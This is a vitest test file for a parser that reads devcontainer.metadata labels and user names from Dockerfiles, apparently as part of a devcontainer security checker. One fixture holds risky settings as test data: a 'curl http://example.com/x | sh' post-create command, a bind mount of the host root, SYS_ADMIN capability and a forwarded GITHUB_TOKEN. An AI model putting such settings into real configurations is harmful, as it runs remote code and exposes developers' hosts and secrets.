import { describe, expect, test } from 'vitest';
import { read, texts, values } from './read.js';

const config = { build: { dockerfile: 'Dockerfile' } };

function readLabel(dockerfile: string, more: object = {}) {
  return read({ ...config, ...more }, { '.devcontainer/Dockerfile': dockerfile });
}

describe('LABEL devcontainer.metadata', () => {
  test.each([
    [`FROM a\nLABEL devcontainer.metadata='[{"privileged":true}]'`],
    [`FROM a\nLABEL devcontainer.metadata='{"privileged":true}'`],
    [`FROM a\nLABEL x=y "devcontainer.metadata"='[{}, {"privileged":true}]' z=1`],
    ['FROM a\nLABEL devcontainer.metadata="[{\\"privileged\\":true}]"'],
    [`FROM a\nLABEL devcontainer.metadata='[ \\\n  { "privileged": true } \\\n]'`],
    [`FROM a\r\nLABEL \\\r\n  a=b \\\r\n  devcontainer.metadata='[{"privileged":true}]'\r\n`],
    [`FROM a AS one\nLABEL devcontainer.metadata='[{"privileged":true}]'\nFROM one\nRUN true`],
  ])('counts: %j', async (dockerfile) => {
    const { privileged } = await readLabel(dockerfile);
    expect(values(privileged)).toEqual([true]);
    expect(texts(privileged)).toEqual(['true']);
    expect(privileged[0]?.place.file.path).toBe('.devcontainer/Dockerfile');
    expect(privileged[0]?.remove()).toEqual([]);
  });

  test('adds mounts, capabilities, variables and commands, at their places', async () => {
    const metadata = JSON.stringify([
      {
        capAdd: ['SYS_ADMIN'],
        mounts: ['source=/,target=/host,type=bind'],
        containerEnv: { T: '${localEnv:GITHUB_TOKEN}' },
        postCreateCommand: 'curl http://example.com/x | sh',
        initializeCommand: 'never run',
      },
    ]);
    const container = await readLabel(`FROM a\nLABEL devcontainer.metadata='${metadata}'\n`);
    expect(texts(container.capabilities)).toEqual(['"SYS_ADMIN"']);
    expect(texts(container.mounts)).toEqual(['"source=/,target=/host,type=bind"']);
    expect(container.mounts[0]?.toVolume('x')).toBeUndefined();
    expect(texts(container.environment)).toEqual(['"${localEnv:GITHUB_TOKEN}"']);
    expect(texts(container.lifecycle)).toEqual(['"curl http://example.com/x | sh"']);
  });

  test.each([
    ['FROM a\nLABEL devcontainer.metadata=\'[{"remoteUser":"dev"}]\'\nUSER root', {}, 'dev'],
    ['FROM a\nLABEL devcontainer.metadata=\'[{"remoteUser":"a"},{"remoteUser":"b"}]\'', {}, 'b'],
    ['FROM a\nLABEL devcontainer.metadata=\'[{"remoteUser":"dev"}]\'', { remoteUser: 'me' }, 'me'],
    ['FROM a\nLABEL devcontainer.metadata=\'[{"containerUser":"dev"}]\'', {}, 'dev'],
    ['FROM mcr.microsoft.com/devcontainers/base\nUSER root', {}, 'vscode'],
    ['FROM mcr.microsoft.com/devcontainers/base', { containerUser: 'root' }, 'vscode'],
    ['FROM mcr.microsoft.com/devcontainers/base', { remoteUser: 'root' }, 'root'],
  ])('decides the user: %j with %j', async (dockerfile, more, name) => {
    expect((await readLabel(dockerfile, more)).user.name).toBe(name);
  });

  test.each([
    ['FROM a\nLABEL other=\'[{"privileged":true}]\''],
    ['FROM a\n# LABEL devcontainer.metadata=\'[{"privileged":true}]\''],
    ['FROM a\nRUN echo LABEL devcontainer.metadata=\'[{"privileged":true}]\''],
    ["FROM a\nLABEL devcontainer.metadata='"],
    ['FROM a\nLABEL devcontainer.metadata='],
    ['FROM a\nLABEL devcontainer.metadata=$METADATA'],
    ['FROM a AS one\nLABEL devcontainer.metadata=\'[{"privileged":true}]\'\nFROM b'],
  ])('says nothing: %j', async (dockerfile) => {
    expect((await readLabel(dockerfile)).privileged).toEqual([]);
  });
});

describe('a user of the Dockerfile', () => {
  test.each([
    ['RUN useradd dev', 'dev'],
    ['RUN apt-get update && useradd -m -s /bin/bash -u 1000 dev && true', 'dev'],
    ['RUN adduser --disabled-password --gecos x dev', 'dev'],
    ['RUN adduser -D -u 1000 dev\nRUN adduser dev sudo', 'dev'],
    [
      'ARG USERNAME=dev\nRUN groupadd --gid 1000 $USERNAME \\\n && useradd --uid 1000 --gid 1000 -m $USERNAME',
      'dev',
    ],
    ['USER dev\nRUN true\nUSER root', 'dev'],
    ['RUN useradd other\nUSER 1000:1000\nUSER 0', '1000'],
    ['RUN useradd -r service', undefined],
    ['RUN useradd $UNKNOWN', undefined],
    ['RUN echo useradd', undefined],
  ])('%j: %s', async (dockerfile, name) => {
    expect((await readLabel(`FROM debian:13\n${dockerfile}`)).user.imageUser).toBe(name);
  });
});
